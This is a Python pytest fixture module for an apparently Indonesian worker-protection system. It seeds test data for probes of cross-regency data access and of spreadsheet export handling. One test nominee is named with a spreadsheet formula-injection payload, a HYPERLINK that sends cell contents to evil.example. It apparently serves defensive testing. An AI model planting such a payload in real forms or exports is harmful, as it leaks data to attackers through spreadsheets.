"""Registry, allocation, enrollment and the BPJS simulator in-process with API keys, over the
package's own broker, for the probes of an officer of one regency into another's data.

Regency A is Samosir (12.17): its officer holds a key bound to it. Regency B is Medan (12.71):
the admin nominates there a worker who is in the P3KE extract, validated, seated and enrolled at
BPJS (a KPJ). Samosir's officer nominates a worker of their own whose name is a spreadsheet
formula; the admin signs a decree, so the annex lists them.

The programme requires the NIK's regency (nik_regency_must_match: true): a NIK of Medan
nominated by Samosir is out of scope, whatever Lindung knows of its holder.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from datetime import date
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from libs.identity import worker_id_for
from libs.nik import compose_nik
from libs.runtime.service import Runtime
from libs.settings import get_settings
from tests.conftest import package_infra  # noqa: F401  (`infra`: a broker of this package's own)
from tests.infra import Infra, run_id
from tests.integration.security import conftest as security
from tests.integration.security.conftest import API_KEYS, KEYS, MEDAN, SAMOSIR, expect
from tests.running import eventually
from tests.support.stack import in_process_stack

# The security package's keys (a province admin; an officer bound to Samosir) and programme:
# seats in Samosir and Medan, `nik_regency_must_match: true`; here under a code of this package.
RUN = run_id()
PROGRAMME = f"ORAKEL-{RUN}-2026"
PROGRAMME_YAML = security.PROGRAMME_YAML.replace(security.PROGRAMME, PROGRAMME)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
BIRTH = date(1984, 3, 9)


@dataclass
class Person:
    regency: str
    nik: str
    full_name: str
    birth: date = BIRTH
    sex: str = "L"

    @property
    def worker_id(self) -> str:
        return worker_id_for(self.nik, get_settings().nik_pepper)

    def form(self, regency: str | None = None, **changes: Any) -> dict[str, Any]:
        """The nomination form, by `regency` (default: the NIK's own)."""
        by = regency or self.regency
        return {
            "programme_code": PROGRAMME,
            "nik": self.nik,
            "full_name": self.full_name,
            "birth_date": self.birth.isoformat(),
            "sex": self.sex,
            "occupation": "petani",
            "regency_code": by,
            "kecamatan": "Pangururan" if by == SAMOSIR else "Medan Kota",
            "desa": "Lumban Suhi Suhi" if by == SAMOSIR else "Pasar Merah",
            "sector": "non_sawit" if by == SAMOSIR else "sawit",
            **changes,
        }


def medan_person(serial: int, name: str) -> Person:
    # Same birth date and sex, serials equal in their last two digits: the masked NIKs of the
    # known and the unknown person are the same, so the answers may be compared whole.
    return Person(MEDAN, compose_nik(MEDAN, 3, BIRTH, "L", serial), name)


@dataclass
class Stack:
    apps: dict[str, FastAPI]
    runtimes: dict[str, Runtime]
    engine: AsyncEngine
    database_url: str
    bootstrap: str
    known: Person  # Medan's: in P3KE, nominated by Medan, seated, enrolled (KPJ)
    unknown: Person  # a Medan NIK Lindung never heard of
    formula: Person  # Samosir's, named like a spreadsheet formula
    kpj: str = ""
    decree_version: int = 1
    extra: dict[str, Any] = field(default_factory=dict)

    def client(self, service: str, role: str) -> httpx.AsyncClient:
        return httpx.AsyncClient(
            transport=httpx.ASGITransport(app=self.apps[service]),
            base_url=f"http://{service}",
            headers={"Authorization": f"Bearer {KEYS[role]}"},
            timeout=60,
        )

    async def call(self, service: str, role: str, method: str, path: str, **kw: Any) -> httpx.Response:
        async with self.client(service, role) as http:
            return await http.request(method, path, **kw)

    async def scalar(self, sql: str, **params: Any) -> Any:
        async with self.engine.connect() as conn:
            return (await conn.execute(text(sql), params)).scalar_one_or_none()


SERVICES = ("registry", "allocation", "enrollment", "bpjs_simulator")


@pytest.fixture(scope="package")
async def stack(infra: Infra) -> AsyncIterator[Stack]:
    env = {"LINDUNG_API_KEYS": API_KEYS}
    async with in_process_stack(infra, "lindung_oracles", SERVICES, partitions=1, env=env) as services:
        found = Stack(
            services.apps,
            services.runtimes,
            services.engine,
            services.database_url,
            infra.bootstrap,
            known=medan_person(1101, "Butet Manurung"),
            unknown=medan_person(1201, "Tidak Dikenal"),
            formula=Person(SAMOSIR, compose_nik(SAMOSIR, 3, BIRTH, "L", 1301), FORMULA_NAME),
        )
        await seed(found)
        yield found


async def seed(stack: Stack) -> None:
    yaml = {"content-type": "application/yaml"}
    await expect(
        await stack.call("allocation", "admin", "POST", "/programmes", content=PROGRAMME_YAML, headers=yaml),
        201,
    )

    async def registry_knows() -> bool:
        sql = "SELECT count(*) FROM registry.programmes WHERE programme_code = :p"
        return bool(await stack.scalar(sql, p=PROGRAMME))

    await eventually(registry_knows, timeout_s=30)
    extract = f"nik,desil\n{stack.known.nik},1\n{stack.formula.nik},1\n"
    await expect(
        await stack.call("registry", "admin", "POST", "/reference/p3ke", content=extract.encode()), 201
    )
    known = await expect(
        await stack.call("registry", "admin", "POST", "/nominations", json=stack.known.form()), 201
    )
    assert known["status"] == "validated", known
    formula = await expect(
        await stack.call("registry", "officer", "POST", "/nominations", json=stack.formula.form()), 201
    )
    assert formula["status"] == "validated", formula

    async def enrolled() -> str | None:
        sql = "SELECT kpj FROM enrollment.registrations WHERE worker_id = :w AND status = 'enrolled'"
        kpj: str | None = await stack.scalar(sql, w=stack.known.worker_id)
        return kpj

    stack.kpj = await eventually(enrolled, timeout_s=45)

    async def seated() -> bool:
        sql = "SELECT count(*) FROM allocation.assignments WHERE programme_code = :p AND status = 'assigned'"
        return int(await stack.scalar(sql, p=PROGRAMME)) == 2

    await eventually(seated, timeout_s=30)
    decree = {"number": f"188.44/{RUN}/KPTS/2026", "date": "2026-02-01", "signer": "Gubernur Sumatera Utara"}
    issued = await expect(
        await stack.call("allocation", "admin", "POST", f"/programmes/{PROGRAMME}/decrees", json=decree), 201
    )
    stack.decree_version = int(issued.get("version", 1))
